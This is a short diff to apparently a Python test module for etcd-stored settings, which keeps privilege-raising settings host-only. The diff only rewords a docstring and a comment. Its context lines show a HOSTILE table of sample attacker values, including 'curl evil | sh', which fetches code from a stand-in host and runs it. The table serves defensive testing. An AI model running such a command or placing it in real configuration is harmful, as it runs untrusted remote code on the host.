@@ -1,5 +1,5 @@
-"""Settings in etcd: every setting is classified, and those that could raise privileges are taken
-from the host only."""
+"""Settings in etcd: every setting is classified, and those that could raise privileges are read
+only from the host."""
 
 from __future__ import annotations
 
@@ -34,7 +34,7 @@ TYPES = {
     for section in Settings.model_fields
     for name, field in type(getattr(Settings(), section)).model_fields.items()
 }
-# What the review of security could write into etcd, and one of each other reason.
+# Settings that the security review could write into etcd, and one for each other reason.
 HOSTILE: dict[str, Any] = {
     "agent.vllm_command": "/tmp/mine",
     "agent.slurm_setup": "curl evil | sh",
